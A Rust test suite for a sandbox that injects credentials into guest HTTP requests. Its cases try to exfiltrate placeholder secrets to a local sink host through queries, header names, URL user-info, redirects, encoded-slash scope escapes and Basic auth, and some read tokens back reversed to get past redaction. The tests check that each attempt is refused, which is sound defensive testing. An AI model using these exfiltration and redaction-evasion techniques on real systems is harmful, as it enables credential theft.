//! Credential exfiltration. Three credentials are in play: `api` (injected as a bearer token
//! for the fake API's /user and /echo), `key` (placeholder only, for a few of its paths) and
//! `sinkkey` (injected for the sink's /reflect-name). The sink is another allowed host that
//! records every byte it receives.
//!
//! The programs reverse whatever they read before returning it: the server redacts values on
//! the way out, but no redactor recognizes a reversed value, so a reversed value in a result
//! proves the value entered the sandbox. The suite checks every result for each value and its
//! reverse, and the sink's bytes for every wire form of the `api` and `key` values.

use serde_json::json;

use crate::harness::*;

fn network(p: Ports) -> String {
    format!(
        r#"
[network]
allow = ["http://127.0.0.1:{api}", "http://127.0.0.1:{sink}"]
max_fetches = 20
fetch_timeout_ms = 400
{credentials}"#,
        api = p.api,
        sink = p.sink,
        credentials = credentials(p, &["/echo", "/bounce", "/slow", "/redirect"]),
    )
}

fn env() -> Env {
    Env::new(EnvSpec {
        limits: &[],
        api: true,
        sink: true,
        network,
    })
}

/// Helpers every JavaScript program here starts with: `rev` reverses text, `seen` reverses
/// everything a response shows (status text, URL, header names and values, body).
const JS_REV: &str = "const rev = (s) => [...String(s)].reverse().join('');\n\
    const seen = async (r) => ({ status: r.status, url: rev(r.url), headers: [...r.headers].map(([k, v]) => rev(k) + ': ' + rev(v)), body: rev(await r.text()) });\n";

const PY_REV: &str = "def rev(s):\n    return str(s)[::-1]\n\
    def seen(r):\n    return {'status': r.status_code, 'url': rev(r.url), 'headers': [rev(k) + ': ' + rev(v) for k, v in r.headers.items()], 'body': rev(r.text)}\n";

/// `__WARDEN_SECRET_api__` and `__WARDEN_SECRET_key__`, reversed: what a program that
/// reverses a redacted echo shows.
const API_REVERSED: &str = "__ipa_TERCES_NEDRAW__";
const KEY_REVERSED: &str = "__yek_TERCES_NEDRAW__";

fn js(name: &str, body: String) -> Case {
    Case::js(name, format!("{JS_REV}{body}"))
}

/// JavaScript that sends one request and evaluates to "sent: ..." or "refused: ...".
fn js_send(url: &str, init: &str) -> String {
    format!("{JS_REV}{}", js_fetch(url, init))
}

pub fn cases(p: &Ports) -> Vec<Case> {
    let api = |path: &str| format!("http://127.0.0.1:{}{path}", p.api);
    let sink = |path: &str| format!("http://127.0.0.1:{}{path}", p.sink);
    let refused_sink = |name: &str, url: String, init: &str| {
        Case::js(name, js_send(&url, init))
            .must("refused before sending: the sink receives nothing")
            .result_starts("refused: ")
            .no_sink_hits()
    };
    vec![
        Case::js(
            "prints the placeholders",
            "console.log('__WARDEN_SECRET_api__ __WARDEN_SECRET_key__ __WARDEN_SECRET_sinkkey__'); 1",
        )
        .must("they are only text: stdout shows the placeholders, never a value")
        .check(|o| {
            if o.result.stdout == "__WARDEN_SECRET_api__ __WARDEN_SECRET_key__ __WARDEN_SECRET_sinkkey__\n" {
                Ok(())
            } else {
                Err("stdout is not the placeholders".into())
            }
        }),
        Case::js("passes a placeholder in `input` and returns it reversed", format!("{JS_REV}rev(input.k)"))
            .input(json!({"k": "__WARDEN_SECRET_key__"}))
            .must("input is never substituted")
            .ok_with(json!(KEY_REVERSED)),
        js(
            "reads the injected Authorization back through /echo (body and X-Echo-Authorization), reversed",
            format!("await seen(await fetch({}))", lit(&api("/echo"))),
        )
        .must("the guest sees the placeholder; the value never enters the sandbox")
        .result_has(&[API_REVERSED]),
        js(
            "sends the key placeholder in the query to /echo and reads the echo reversed",
            format!("await seen(await fetch({}))", lit(&api("/echo?k=__WARDEN_SECRET_key__"))),
        )
        .must("the echo shows the placeholder, never the value")
        .result_has(&[KEY_REVERSED]),
        js(
            "sends the key placeholder in a POST body to /echo and reads the echo reversed",
            format!(
                "await seen(await fetch({}, {{ method: 'POST', body: 'k=__WARDEN_SECRET_key__' }}))",
                lit(&api("/echo"))
            ),
        )
        .must("the echo shows the placeholder, never the value")
        .result_has(&[KEY_REVERSED]),
        js(
            "sends the key placeholder in a custom header to /echo and reads the echo reversed",
            format!(
                "await seen(await fetch({}, {{ headers: {{ 'X-K': 'v=__WARDEN_SECRET_key__' }} }}))",
                lit(&api("/echo"))
            ),
        )
        .must("the echo shows the placeholder, never the value")
        .result_has(&[KEY_REVERSED]),
        js(
            "writes the injected credential's own placeholder into another header to /echo",
            format!(
                "await seen(await fetch({}, {{ headers: {{ 'X-Copy': '__WARDEN_SECRET_api__' }} }}))",
                lit(&api("/echo"))
            ),
        )
        .must("the echo shows the placeholder, never the value")
        .result_has(&[API_REVERSED]),
        js(
            "reads the injected Authorization back through a gzip-compressed echo, reversed",
            format!("await seen(await fetch({}))", lit(&api("/gzip-echo"))),
        )
        .must("the body is decoded before redaction: only the placeholder shows")
        .result_has(&[API_REVERSED]),
        refused_sink("sends the key placeholder in the query to another allowed host", sink("/?k=__WARDEN_SECRET_key__"), "{}"),
        refused_sink("sends the key placeholder in the path to another allowed host", sink("/__WARDEN_SECRET_key__"), "{}"),
        refused_sink(
            "sends the key placeholder in a header value to another allowed host",
            sink("/"),
            "{ headers: { 'X-K': '__WARDEN_SECRET_key__' } }",
        ),
        Case::js(
            "sends the key placeholder as a header name to another allowed host",
            js_send(&sink("/"), "{ headers: { '__WARDEN_SECRET_key__': '1' } }"),
        )
        .must("no value reaches the sink (Headers lower-cases the name, which is then only text)")
        .status(&["ok"]),
        Case::py(
            "Python sends the key placeholder as a raw header name (exact case) to another allowed host",
            format!(
                "import wit_world\ntry:\n    wit_world.fetch(wit_world.HttpRequest(method='GET', url={}, headers=[('__WARDEN_SECRET_key__', '1')], body=b''))\n    out = 'sent'\nexcept Exception as e:\n    out = 'refused: ' + str(getattr(e, 'value', e))\nout",
                lit(&sink("/"))
            ),
        )
        .must("refused before sending: the sink receives nothing")
        .result_starts("refused: ")
        .no_sink_hits(),
        refused_sink(
            "sends the key placeholder in a POST body to another allowed host",
            sink("/"),
            "{ method: 'POST', body: JSON.stringify({ k: '__WARDEN_SECRET_key__' }) }",
        ),
        refused_sink(
            "sends the api placeholder in a header to another allowed host",
            sink("/"),
            "{ headers: { Authorization: 'Bearer __WARDEN_SECRET_api__' } }",
        ),
        refused_sink(
            "puts the key placeholder in the user information",
            format!("http://__WARDEN_SECRET_key__@127.0.0.1:{}/", p.sink),
            "{}",
        ),
        refused_sink("uses the key placeholder as the HTTP method", sink("/"), "{ method: '__WARDEN_SECRET_key__' }"),
        Case::js(
            "puts the key placeholder in the fragment of a URL to another allowed host",
            js_send(&sink("/#__WARDEN_SECRET_key__"), "{}"),
        )
        .must("the value never reaches the sink (the fragment is never sent, or the request is refused)"),
        Case::js(
            "sends the key placeholder to the API on a path outside its scope",
            js_send(&api("/json?k=__WARDEN_SECRET_key__"), "{}"),
        )
        .must("refused before sending: nothing reaches the API")
        .result_starts("refused: ")
        .no_api_hits(),
        Case::js(
            "climbs out of the key's /echo scope with an encoded slash",
            js_send(&api("/echo/..%2Fjson?k=__WARDEN_SECRET_key__"), "{}"),
        )
        .must("refused before sending: nothing reaches the API")
        .result_starts("refused: ")
        .no_api_hits(),
        Case::js(
            "sends the sink's placeholder to the API's /echo (outside its scope)",
            js_send(&api("/echo?k=__WARDEN_SECRET_sinkkey__"), "{}"),
        )
        .must("refused before sending: nothing reaches the API")
        .result_starts("refused: ")
        .no_api_hits(),
        Case::js(
            "POSTs the key placeholder to the API's /redirect, which answers 307 to the sink",
            js_send(
                &api(&format!("/redirect?status=307&to={}", urlencode(&sink("/landing")))),
                "{ method: 'POST', body: 'k=__WARDEN_SECRET_key__' }",
            ),
        )
        .must("the hop to another origin is refused: the sink receives nothing")
        .result_starts("refused: ")
        .api_hits(1)
        .no_sink_hits(),
        Case::js(
            "lets the API's /bounce copy the substituted key into a redirect to the sink",
            js_send(
                &api(&format!("/bounce?to={}&k=__WARDEN_SECRET_key__", urlencode(&sink("/landing")))),
                "{}",
            ),
        )
        .must("the hop carrying the value is refused: the sink receives nothing")
        .result_starts("refused: ")
        .no_sink_hits(),
        Case::js("a plain GET to the sink", js_send(&sink("/plain"), "{}"))
            .must("sent without any credential (the sink's bytes hold no value)")
            .ok_with(json!("sent: 200")),
        Case::js(
            "sends a lower-case look-alike of the placeholder to the sink",
            js_send(&sink("/?k=__warden_secret_key__"), "{}"),
        )
        .must("it is not a placeholder: sent as the text it is, no value reaches the sink")
        .ok_with(json!("sent: 200")),
        Case::js(
            "sends the placeholder percent-encoded to the sink",
            js_send(&sink("/?k=%5F%5FWARDEN_SECRET_key%5F%5F"), "{}"),
        )
        .must("no value reaches the sink")
        .status(&["ok"]),
        Case::js(
            "splits the placeholder over two headers to the sink",
            js_send(&sink("/"), "{ headers: { 'X-A': '__WARDEN_SECRET_', 'X-B': 'key__' } }"),
        )
        .must("no value reaches the sink")
        .status(&["ok"]),
        Case::js(
            "hides the placeholder inside Basic authentication (base64) to the sink",
            js_send(&sink("/"), "{ headers: { Authorization: 'Basic ' + btoa('u:__WARDEN_SECRET_key__') } }"),
        )
        .must("the host does not decode and substitute it: no value reaches the sink")
        .status(&["ok"]),
        js(
            "makes an in-scope request carrying the key fail (a timeout) and reads the error reversed",
            format!(
                "try {{ await fetch({}); 'sent' }} catch (e) {{ 'refused: ' + rev(e.message) }}",
                lit(&api("/slow?ms=1500&k=__WARDEN_SECRET_key__"))
            ),
        )
        .must("the error message carries no value")
        .result_starts("refused: "),
        Case::js(
            "overrides the injected Authorization header for the API",
            js_send(&api("/echo"), "{ headers: { Authorization: 'Bearer mine' } }"),
        )
        .must("refused: the host sets that header, and nothing is sent")
        .result_starts("refused: ")
        .no_api_hits(),
        Case::py(
            "Python reads the injected Authorization back through /echo with requests, reversed",
            format!("{PY_REV}import requests\nseen(requests.get({}))", lit(&api("/echo"))),
        )
        .must("the guest sees the placeholder; the value never enters the sandbox")
        .result_has(&[API_REVERSED]),
        Case::py(
            "Python sends the key placeholder in a query to the sink with urllib",
            format!(
                "import urllib.request, urllib.error\ntry:\n    urllib.request.urlopen({})\n    out = 'sent'\nexcept urllib.error.URLError as e:\n    out = 'refused: ' + str(e.reason)\nout",
                lit(&sink("/?k=__WARDEN_SECRET_key__"))
            ),
        )
        .must("refused before sending: the sink receives nothing")
        .result_starts("refused: ")
        .no_sink_hits(),
        Case::py(
            "Python sets Authorization with a placeholder on a requests.Session for the API",
            format!(
                "import requests\ns = requests.Session()\ns.headers['Authorization'] = 'Bearer __WARDEN_SECRET_key__'\ntry:\n    out = 'sent %d' % s.get({}).status_code\nexcept requests.RequestException as e:\n    out = 'refused: ' + str(e)\nout",
                lit(&api("/echo"))
            ),
        )
        .must("refused: the host sets Authorization for the API")
        .result_starts("refused: ")
        .no_api_hits(),
        Case::py(
            "Python requests with auth=(user, placeholder) to the sink (Basic, base64-encoded)",
            format!(
                "import requests\nrequests.get({}, auth=('u', '__WARDEN_SECRET_key__')).status_code",
                lit(&sink("/"))
            ),
        )
        .must("no value reaches the sink")
        .status(&["ok"]),
        // A misbehaving allowed API that reflects the injected token into a response header
        // *name*: header values are redacted, names are not.
        js(
            "reads response header names from an allowed API that reflects the injected token into a header name",
            format!("await seen(await fetch({}))", lit(&sink("/reflect-name"))),
        )
        .must("the guest never sees the value (it would be redacted like a header value)")
        .status(&["ok"]),
        Case::py(
            "Python reads response header names from an allowed API that reflects the injected token into a header name",
            format!("{PY_REV}import requests\nseen(requests.get({}))", lit(&sink("/reflect-name"))),
        )
        .must("the guest never sees the value")
        .status(&["ok"]),
    ]
}

#[tokio::test]
async fn credentials_exfiltration() {
    let env = env();
    let cases = cases(&env.ports);
    run_table("credentials", &env, cases, Mode::Regular).await;
}
